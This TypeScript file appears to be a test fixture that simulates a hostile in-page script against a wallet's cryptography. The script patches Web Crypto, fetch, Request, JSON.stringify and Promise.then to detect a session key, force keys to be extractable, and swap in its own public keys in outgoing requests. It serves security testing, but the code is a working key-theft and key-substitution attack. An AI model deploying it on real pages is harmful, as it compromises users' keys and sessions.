/**
 * A hostile script that replaces one thing of the page. It looks at all that passes through its replacement and, with
 * `isActive`, also changes it: keys become extractable, and public keys on their way to the service become its own.
 */

/** What the script has got hold of. */
export interface Loot {
  /** It has seen the raw session key, in any form. */
  hasSeenKey: boolean
  /** The public keys (x in hex) of which it has the private key: its own, and those of extractable keys that it has seen. */
  ownedKeys: string[]
}

export interface HostileOptions {
  /** A path of `patches`. */
  patch: string
  isActive: boolean
  /** The session key that it must find, each byte XOR 0x5a: the test's own calls must not show it. Empty: none is known. */
  masked: number[]
}

declare global {
  var loot: () => Promise<Loot>
}

/** Runs in the page and refers to nothing outside of itself. */
export function installHostileScript({ patch, isActive, masked }: HostileOptions): void {
  const { apply, construct, defineProperty, getOwnPropertyDescriptor, ownKeys } = Reflect
  const { subtle } = crypto
  const { generateKey, exportKey } = SubtleCrypto.prototype
  const [OwnProxy, OwnRequest, OwnUint8Array, OwnBuffer] = [Proxy, Request, Uint8Array, ArrayBuffer]
  const [keyType, isExtractable, keyAlgorithm] = (['type', 'extractable', 'algorithm'] as const).map(
    (name) => getOwnPropertyDescriptor(CryptoKey.prototype, name)!.get!,
  )
  const isView = ArrayBuffer.isView
  const { stringify, parse } = JSON
  const { then } = Promise.prototype
  const { includes, replace } = String.prototype
  const digits = '0123456789abcdef'
  const hexOf = (bytes: Uint8Array) => {
    let hex = ''
    for (let i = 0; i < bytes.length; i++) hex += digits[bytes[i]! >> 4]! + digits[bytes[i]! & 15]!
    return hex
  }
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'
  const base64Of = (bytes: Uint8Array) => {
    let text = ''
    // The last characters depend on what follows, so they are left out.
    for (let i = 0; i + 2 < bytes.length; i += 3) {
      const n = (bytes[i]! << 16) | (bytes[i + 1]! << 8) | bytes[i + 2]!
      text += alphabet[n >> 18]! + alphabet[(n >> 12) & 63]! + alphabet[(n >> 6) & 63]! + alphabet[n & 63]!
    }
    return text
  }
  const secret = new Uint8Array(masked.length)
  for (let i = 0; i < masked.length; i++) secret[i] = masked[i]! ^ 0x5a
  const isKnown = secret.length === 32
  const secretHex = hexOf(secret)
  const secretNumber = isKnown ? BigInt(`0x${secretHex}`) : undefined
  const texts = isKnown
    ? [
        secretHex,
        base64Of(secret),
        apply(replace, apply(replace, base64Of(secret), [/\+/g, '-']), [/\//g, '_']),
      ]
    : []

  let hasSeenKey = false
  let isLooking = false
  const ownedKeys: string[] = []
  const seenKeys: CryptoKey[] = []
  const watched: Uint8Array[] = []
  let nextWatched = 0

  /** What the script makes for itself, to put it in the place of the wallet's. */
  const own: Record<string, { pair?: CryptoKeyPair; point?: Uint8Array }> = { ECDH: {}, ECDSA: {} }
  const xOf = (point: Uint8Array) => apply(String.prototype.slice, hexOf(point), [2, 66]) as string
  const makeOwn = async (name: 'ECDH' | 'ECDSA', usages: KeyUsage[]) => {
    const pair = await apply(generateKey, subtle, [{ name, namedCurve: 'P-256' }, true, usages])
    const point = new OwnUint8Array(await apply(exportKey, subtle, ['raw', pair.publicKey]))
    own[name] = { pair, point }
    ownedKeys[ownedKeys.length] = xOf(point)
  }
  const ready = isActive
    ? Promise.all([makeOwn('ECDH', ['deriveBits']), makeOwn('ECDSA', ['sign', 'verify'])])
    : Promise.resolve([])

  const hasSecret = (bytes: ArrayLike<unknown>) => {
    for (let start = 0; start + 32 <= bytes.length; start++) {
      let same = 0
      while (same < 32 && bytes[start + same] === secret[same]) same++
      if (same === 32) return true
    }
    return false
  }
  /** Looks again at what it has seen: a buffer may be filled later. */
  const lookAgain = () => {
    if (isKnown) for (let i = 0; i < watched.length; i++) if (hasSecret(watched[i]!)) hasSeenKey = true
  }
  const lookAt = (value: unknown, depth: number): void => {
    if (typeof value === 'string') {
      for (let i = 0; i < texts.length; i++) if (apply(includes, value, [texts[i]!])) hasSeenKey = true
    } else if (typeof value === 'bigint') {
      if (value === secretNumber) hasSeenKey = true
    } else if (typeof value === 'object' && value !== null && depth < 4) {
      try {
        if (apply(keyType!, value, []) === 'private' && apply(isExtractable!, value, []))
          seenKeys[seenKeys.length] = value as CryptoKey
        return
      } catch {
        // Not a key.
      }
      if (isView(value) || value instanceof OwnBuffer) {
        const { buffer, byteOffset, byteLength } = (
          isView(value) ? value : { buffer: value, byteOffset: 0, byteLength: value.byteLength }
        ) as Uint8Array
        if (byteLength < 32 || byteLength > 4096) return
        const bytes = new OwnUint8Array(buffer, byteOffset, byteLength)
        if (isKnown && hasSecret(bytes)) hasSeenKey = true
        watched[nextWatched++ % 64] = bytes
        return
      }
      if (value instanceof Promise) {
        apply(then, value, [(result: unknown) => quietly(() => lookAt(result, depth)), () => undefined])
        return
      }
      const names = ownKeys(value)
      if (isKnown && names.length > 32 && hasSecret(value as ArrayLike<unknown>)) hasSeenKey = true
      for (let i = 0; i < names.length && i < 64; i++) {
        const descriptor = getOwnPropertyDescriptor(value, names[i]!)
        if (descriptor !== undefined && 'value' in descriptor) lookAt(descriptor.value, depth + 1)
      }
    }
  }
  /** Runs its own code: what that calls must not be looked at in turn. */
  const quietly = (work: () => void) => {
    if (isLooking) return
    isLooking = true
    try {
      work()
    } catch {
      // A hostile script stays silent.
    } finally {
      isLooking = false
    }
  }

  const isPoint = (value: unknown): value is Uint8Array =>
    isView(value) && value.byteLength === 65 && (value as Uint8Array)[0] === 4
  let seenAlgorithm = ''
  /** Its own public key in the place of another. Which one counts is how the service will use it. */
  const swapPoint = (value: unknown): unknown => {
    const { point } = own[seenAlgorithm === 'ECDSA' ? 'ECDSA' : 'ECDH']!
    if (point === undefined) return value
    if (isPoint(value)) return new OwnUint8Array(point)
    if (value instanceof OwnBuffer && isPoint(new OwnUint8Array(value)))
      return new OwnUint8Array(point).buffer
    return value
  }
  const swapText = (value: unknown): unknown => {
    if (typeof value !== 'string') return value
    return apply(replace, value, [
      /"(clientPublicKey|public_key)":"(04[\da-f]{128}|0[23][\da-f]{64})"/g,
      (whole: string, field: string, hex: string) => {
        const { point } = own[hex.length === 66 ? 'ECDSA' : field === 'public_key' ? 'ECDSA' : 'ECDH']!
        if (point === undefined) return whole
        const compressed = `0${2 + (point[64]! & 1)}${xOf(point)}`
        return `"${field}":"${hex.length === 66 ? compressed : hexOf(point)}"`
      },
    ])
  }
  const swapPair = (value: unknown): unknown => {
    const key = (value as Partial<CryptoKeyPair> | null | undefined)?.privateKey
    if (key === undefined) return value
    try {
      const { name } = apply(keyAlgorithm!, key, []) as unknown as KeyAlgorithm
      return own[name]?.pair ?? value
    } catch {
      return value
    }
  }
  const extractableAt: Record<string, number> = { generateKey: 1, importKey: 3, deriveKey: 3, unwrapKey: 5 }

  const tamperWithArguments = (name: string, args: unknown[]): void => {
    const position = extractableAt[name]
    if (name === 'generateKey') seenAlgorithm = (args[0] as { name: string }).name
    if (position !== undefined) args[position] = true
    else if (name === 'JSON.stringify' && typeof args[0] === 'object')
      args[0] = parse(swapText(stringify(args[0])) as string)
    else if (name === 'Request' && typeof args[1] === 'object')
      args[1] = { ...args[1], body: swapText((args[1] as RequestInit).body) }
    else if (name === 'then' && typeof args[0] === 'function') {
      const inner = args[0] as (value: unknown) => unknown
      args[0] = (value: unknown) => {
        quietly(() => lookAt(value, 0))
        return inner(swapPoint(swapPair(value)))
      }
    } else for (let i = 0; i < args.length; i++) args[i] = swapPoint(swapText(args[i]))
  }
  const tamperWithResult = (name: string, result: unknown): unknown => {
    if (name === 'generateKey' || name === 'then') return result
    if (result instanceof Promise && name === 'exportKey') return apply(then, result, [swapPoint])
    return swapPoint(swapText(result))
  }
  const tamperWithFetch = async (original: typeof fetch, args: unknown[]) => {
    const request = new OwnRequest(args[0] as RequestInfo, args[1] as RequestInit)
    const body = swapText(await request.clone().text()) as string
    return original(request.method === 'GET' ? request : new OwnRequest(request, { body }))
  }

  const wrap = (original: object, name: string): object =>
    new OwnProxy(original, {
      apply: (_, self: unknown, args: unknown[]) => run(name, args, self, undefined, original),
      construct: (_, args: unknown[], target) => run(name, args, undefined, target, original) as object,
    })
  function run(name: string, args: unknown[], self: unknown, newTarget: unknown, original: object): unknown {
    const target = newTarget as (new () => object) | undefined
    const call = (that: unknown) =>
      target === undefined
        ? apply(original as () => unknown, that, args)
        : construct(original as new () => object, args, target)
    if (isLooking) return call(self)
    quietly(() => {
      lookAt(args, 0)
      lookAt(self, 0)
      lookAgain()
    })
    if (!isActive) {
      const result = call(self)
      quietly(() => lookAt(result, 0))
      return result
    }
    if (name === 'fetch') return tamperWithFetch(original as typeof fetch, args)
    quietly(() => tamperWithArguments(name, args))
    let that = self
    quietly(() => {
      that = swapPoint(self)
    })
    let result = call(that)
    quietly(() => {
      lookAt(result, 0)
      result = tamperWithResult(name, result)
    })
    return result
  }

  const steps = apply(String.prototype.split, patch, ['.']) as string[]
  const roots: Record<string, unknown> = { TypedArray: Object.getPrototypeOf(Uint8Array) }
  let owner: object = globalThis
  for (let i = 0; i < steps.length - 1; i++)
    owner = (roots[steps[i]!] ?? (owner as Record<string, object>)[steps[i]!]) as object
  const last = steps[steps.length - 1]!
  const property = last === '@@iterator' ? Symbol.iterator : last
  const name = patch === 'JSON.stringify' ? patch : last
  let holder: object = owner
  while (getOwnPropertyDescriptor(holder, property) === undefined) holder = Object.getPrototypeOf(holder)
  const descriptor = getOwnPropertyDescriptor(holder, property)!
  if (patch === 'Crypto.prototype.subtle') {
    const replaced = new OwnProxy(subtle, {
      get: (target, method) => {
        const value = (target as unknown as Record<PropertyKey, unknown>)[method]
        if (typeof value !== 'function') return value
        const wrapped = wrap(value, String(method)) as () => unknown
        return function () {
          // biome-ignore lint/complexity/noArguments: rest parameters are arrays, and their methods may be replaced
          return apply(wrapped, target, arguments)
        }
      },
    })
    defineProperty(holder, property, { ...descriptor, get: () => replaced })
  } else
    defineProperty(owner, property, {
      ...descriptor,
      configurable: true,
      value: wrap(descriptor.value, name),
    })

  setInterval(() => quietly(lookAgain), 0)
  globalThis.loot = async () => {
    await ready
    for (let i = 0; i < seenKeys.length; i++) {
      try {
        const { x, d } = (await apply(exportKey, subtle, ['jwk', seenKeys[i]!])) as JsonWebKey
        if (d === undefined || x === undefined) continue
        const text = atob(x.replaceAll('-', '+').replaceAll('_', '/'))
        const bytes = new OwnUint8Array(text.length)
        for (let j = 0; j < text.length; j++) bytes[j] = text.charCodeAt(j)
        ownedKeys[ownedKeys.length] = hexOf(bytes)
      } catch {
        // Not a key of this curve.
      }
    }
    return { hasSeenKey, ownedKeys }
  }
}
